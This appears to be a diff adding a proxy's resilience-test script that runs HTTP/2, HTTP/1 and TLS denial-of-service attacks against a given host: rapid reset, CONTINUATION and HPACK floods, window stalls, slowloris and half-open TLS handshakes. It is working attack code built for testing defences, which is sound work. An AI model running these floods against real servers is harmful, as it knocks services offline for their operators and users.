@@ -1,0 +1,396 @@
+"""One attack on a proxy: attacker.py ATTACK HOST PORT SECONDS [CA]. Prints a JSON object of what the proxy answered.
+
+A process of its own at the lowest priority, so that on one or two cores it is the attack that competes with the victim
+and not the attacker's Python; every attack is paced by `pause`. With CA the attack goes through TLS.
+"""
+
+import collections
+import contextlib
+import json
+import os
+import select
+import socket
+import ssl
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+# :method, :scheme http, :path, :authority "a" as a literal.
+GET, POST = b"\x82\x86\x84\x01\x01a", b"\x83\x86\x84\x01\x01a"
+
+
+def get(path):
+    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a"
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload
+
+
+def word(number):
+    return struct.pack("!I", number)
+
+
+def setting(identifier, value):
+    return struct.pack("!HI", identifier, value)
+
+
+class Closed(Exception):
+    pass
+
+
+class Link:
+    """One connection of the attack. Counts what comes back; `send` raises `Closed` once the proxy has ended it."""
+
+    def __init__(self, attack, settings=b"", http2=True, receive_buffer=0, reads=True):
+        self.attack, self.reads, self.buffer, self.answer = attack, reads, b"", b""
+        raw = socket.socket()
+        if receive_buffer:
+            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
+        raw.settimeout(5)
+        raw.connect(attack.address)
+        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        if attack.context:
+            attack.context.set_alpn_protocols(["h2" if http2 else "http/1.1"])
+            raw = attack.context.wrap_socket(raw)
+        self.raw, self.http2 = raw, http2
+        attack.links.append(self)
+        if http2:
+            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
+
+    def send(self, data):
+        """All of it, reading what comes meanwhile (unless the attack does not read); gives up when the time is over."""
+        view = memoryview(data)
+        self.raw.setblocking(False)
+        while view and not self.attack.is_over:
+            try:
+                view = view[self.raw.send(view):]
+            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
+                select.select([self.raw], [self.raw] if self.reads else [], [], 0.05)
+            except OSError:
+                self.drain()
+                raise Closed from None
+            if self.reads:
+                self.receive()
+
+    def receive(self):
+        try:
+            while piece := self.raw.recv(65536):
+                self.note(piece)
+            raise Closed
+        except (BlockingIOError, ssl.SSLWantReadError):
+            return
+        except OSError:
+            raise Closed from None
+
+    def drain(self):
+        self.raw.setblocking(True)
+        with contextlib.suppress(OSError):
+            self.raw.settimeout(1)
+            while piece := self.raw.recv(65536):
+                self.note(piece)
+
+    def note(self, piece):
+        self.attack.bytes += len(piece)
+        if not self.http2:
+            if len(self.answer) < 12:
+                self.answer += piece
+                if len(self.answer) >= 12:
+                    self.attack.seen["status " + self.answer[9:12].decode(errors="replace")] += 1
+            return
+        self.buffer += piece
+        while len(self.buffer) >= 9:
+            length = int.from_bytes(self.buffer[:3], "big")
+            if len(self.buffer) < 9 + length:
+                return
+            kind, payload = self.buffer[3], self.buffer[9:9 + length]
+            if kind == RST:
+                self.attack.seen[f"rst {int.from_bytes(payload, 'big')}"] += 1
+            elif kind == GOAWAY:
+                self.attack.seen[f"goaway {int.from_bytes(payload[4:8], 'big')}"] += 1
+            self.buffer = self.buffer[9 + length:]
+
+
+class Attack:
+    def __init__(self, address, seconds, authority):
+        self.address, self.links, self.seen, self.bytes = address, [], collections.Counter(), 0
+        self.end = time.monotonic() + seconds
+        self.context = None
+        if authority:
+            self.context = ssl.create_default_context(cafile=authority)
+            self.context.check_hostname = False
+
+    @property
+    def is_over(self):
+        return time.monotonic() >= self.end
+
+    def pause(self, seconds=0.005):
+        """What bounds the attack's rate."""
+        time.sleep(seconds)
+
+    def again(self, one):
+        """The attack on connection after connection: each goes on until the proxy ends it or the time is over."""
+        while not self.is_over:
+            try:
+                one(self)
+            except (Closed, OSError):
+                self.seen["closed"] += 1
+                self.pause(0.02)
+            for link in self.links:
+                link.raw.close()
+            self.links.clear()
+
+
+# MARK: HTTP/2
+
+def streams(link, attack, make, batch=20, settings=None):
+    """Streams 1, 3, 5 ... in batches."""
+    stream = 1
+    while not attack.is_over:
+        link.send(b"".join(make(stream + 2 * n) for n in range(batch)))
+        stream += 2 * batch
+        attack.pause()
+
+
+def flood(attack, piece, *, opening=b"", batch=200, reads=True, settings=b""):
+    link = Link(attack, settings, reads=reads)
+    link.send(opening)
+    while not attack.is_over:
+        link.send(piece * batch)
+        attack.pause()
+
+
+def rapid_reset(attack):
+    stalled = get(b"/stall")
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, stalled) + frame(RST, 0, n, word(8)))
+
+
+def made_you_reset(attack):
+    stalled = get(b"/stall")
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, stalled) + frame(WINDOW_UPDATE, 0, n, word(0)))
+
+
+def continuation_flood(attack):
+    flood(attack, frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"), opening=frame(HEADERS, 1, 1, GET), batch=20)
+
+
+def large_block(attack):
+    flood(attack, frame(CONTINUATION, 0, 1, b"\x82" * 16384), opening=frame(HEADERS, 1, 1, GET), batch=2)
+
+
+def settings_flood(attack):
+    flood(attack, frame(SETTINGS, 0, 0, setting(4, 70000)), batch=20)
+
+
+def settings_entries(attack):
+    flood(attack, frame(SETTINGS, 0, 0, setting(4, 70000) * 2000), batch=1)
+
+
+def ping_flood(attack):
+    flood(attack, frame(PING, 0, 0, b"attacked"), batch=4000, reads=False)
+
+
+def empty_data(attack):
+    flood(attack, frame(DATA, 0, 1), opening=frame(HEADERS, 4, 1, POST))
+
+
+def priority_flood(attack):
+    flood(attack, frame(PRIORITY, 0, 1, bytes(5)))
+
+
+def unknown_flood(attack):
+    flood(attack, frame(0x55, 0, 0, b"?"))
+
+
+def window_update_flood(attack):
+    flood(attack, frame(WINDOW_UPDATE, 0, 0, word(1)))
+
+
+def hpack_bomb(attack):
+    entry = b"\x40\x01a\x7f\xe1\x0e" + b"b" * 2016
+    link = Link(attack)
+    link.send(frame(HEADERS, 5, 1, GET + entry))
+    bomb = GET + b"\xbe" * 16000
+    stream = 3
+    while not attack.is_over:
+        link.send(frame(HEADERS, 5, stream, bomb))
+        stream += 2
+        attack.pause()
+
+
+def cookie_crumbs(attack):
+    crumbs = GET + b"\x60\x01a" + b"\xbe" * 15000
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, crumbs), batch=1)
+
+
+def table_flapping(attack):
+    flapping = b"\x20\x3f\xe1\x1f" * 2000 + GET
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, flapping), batch=1)
+
+
+def empty_names(attack):
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, GET + b"\x00\x00\x01v"))
+
+
+def refused_streams(attack):
+    stalled = get(b"/stall")
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, stalled), batch=100)
+
+
+def tiny_windows(attack):
+    flood(attack, frame(WINDOW_UPDATE, 0, 1, word(1)), opening=frame(HEADERS, 5, 1, get(b"/large")), batch=1,
+          settings=setting(4, 1))
+
+
+def window_stall(attack):
+    """Windows of 0, held for ever, on a thousand answers."""
+    link = Link(attack, setting(4, 0))
+    link.send(b"".join(frame(HEADERS, 5, n * 2 + 1, get(b"/large")) for n in range(1000)))
+    while not attack.is_over:
+        link.send(frame(PING, 0, 0, b"tick-tac"))
+        attack.pause(0.05)
+
+
+def stalled_uploads(attack):
+    """Every window of every stream of many connections filled, towards an application that takes nothing."""
+    links = [Link(attack) for _ in range(40)]
+    block = b"".join(frame(DATA, 0, 0, bytes(16384)) for _ in range(1))
+    for link in links:
+        link.send(b"".join(frame(HEADERS, 4, n * 2 + 1, b"\x83" + get(b"/stall")[1:]) for n in range(16)))
+    sent = collections.Counter()
+    while not attack.is_over:
+        for link in links:
+            with contextlib.suppress(Closed):
+                for n in range(16):
+                    # The first 60,000 bytes fit the initial windows; later ones go only where no RST came.
+                    if sent[link, n] < 16:
+                        link.send(block[:5] + word(n * 2 + 1) + block[9:])
+                        sent[link, n] += 1
+        attack.pause(0.01)
+
+
+def unread_answers(attack):
+    """Requests whose answers no window holds up, and nobody reads."""
+    link = Link(attack, receive_buffer=8192, reads=False)
+    streams(link, attack, lambda n: frame(HEADERS, 5, n, get(b"/header")), batch=50)
+
+
+def stream_churn(attack):
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, GET), batch=100)
+
+
+def connect_churn(attack):
+    """CONNECT, which the listener answers itself: the cheapest request there is."""
+    block = b"\x02\x07CONNECT\x01\x05a:443"
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 4, n, block), batch=1000)
+
+
+# MARK: HTTP/1
+
+def plain(attack, data, *, opening=b"", batch=1, reads=True, receive_buffer=0):
+    link = Link(attack, http2=False, reads=reads, receive_buffer=receive_buffer)
+    link.send(opening)
+    while not attack.is_over:
+        link.send(data * batch)
+        attack.pause()
+
+
+CHUNKED = b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
+
+
+def chunk_extensions(attack):
+    plain(attack, b"1;" + b"x" * 500 + b"\r\na\r\n", opening=CHUNKED, batch=10)
+
+
+def tiny_chunks(attack):
+    plain(attack, b"1\r\na\r\n", opening=CHUNKED, batch=5000)
+
+
+def pipelining(attack):
+    plain(attack, b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n", batch=100, reads=False, receive_buffer=8192)
+
+
+def long_head(attack):
+    plain(attack, b"X: " + b"a" * 1000 + b"\r\n", opening=b"GET / HTTP/1.1\r\nHost: a\r\n", batch=10)
+
+
+def slow_heads(attack):
+    """Slowloris in four tongues: a head, a preface, a HEADERS frame and a field block, a byte now and then."""
+    links = []
+    for _ in range(25):
+        links.append((Link(attack, http2=False), b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 100))
+        link = Link(attack, http2=False)
+        links.append((link, PREFACE[:-1]))
+        links.append((Link(attack), frame(HEADERS, 5, 1, GET + b"\x00\x01a\x60" + b"b" * 96)))
+        links.append((Link(attack), frame(HEADERS, 0, 1, GET) + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 8))
+    at = 0
+    while links and not attack.is_over:
+        for link, data in list(links):
+            try:
+                link.send(data[at:at + 1])
+            except Closed:
+                attack.seen["closed"] += 1
+                links.remove((link, data))
+        at += 1
+        attack.pause(0.5)
+    attack.seen["left"] = len(links)
+
+
+# MARK: TLS
+
+def tiny_records(attack):
+    """A TLS record for each byte of a request's body."""
+    link = Link(attack, http2=False)
+    link.send(b"POST /stall HTTP/1.1\r\nHost: a\r\nContent-Length: 100000000\r\n\r\n")
+    while not attack.is_over:
+        for _ in range(500):
+            link.send(b"a")
+        attack.pause()
+
+
+def left_handshakes(attack):
+    """A ClientHello's first bytes and then silence."""
+    links = []
+    for _ in range(100):
+        raw = socket.create_connection(attack.address)
+        raw.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
+        raw.setblocking(False)
+        links.append(raw)
+    while links and not attack.is_over:
+        attack.pause(0.2)
+        for raw in list(links):
+            with contextlib.suppress(BlockingIOError):
+                try:
+                    if raw.recv(4096):
+                        continue
+                except ConnectionError:
+                    pass
+                attack.seen["closed"] += 1
+                links.remove(raw)
+    attack.seen["left"] = len(links)
+
+
+# MARK: No attack
+
+def harmless(attack):
+    """What costs this process about as much as an attack, and a proxy what honest clients cost."""
+    stream, link = 1, Link(attack)
+    while not attack.is_over:
+        link.send(b"".join(frame(HEADERS, 5, stream + 2 * n, GET) for n in range(5)))
+        stream += 10
+        attack.pause()
+
+
+def main():
+    name, host, port, seconds, *authority = sys.argv[1:]
+    os.nice(19)
+    attack = Attack((host, int(port)), float(seconds), authority[0] if authority else None)
+    one = globals()[name]
+    lasting = {"slow_heads", "left_handshakes", "stalled_uploads"}
+    one(attack) if name in lasting else attack.again(one)
+    print(json.dumps({**attack.seen, "bytes": attack.bytes}))
+
+
+main()
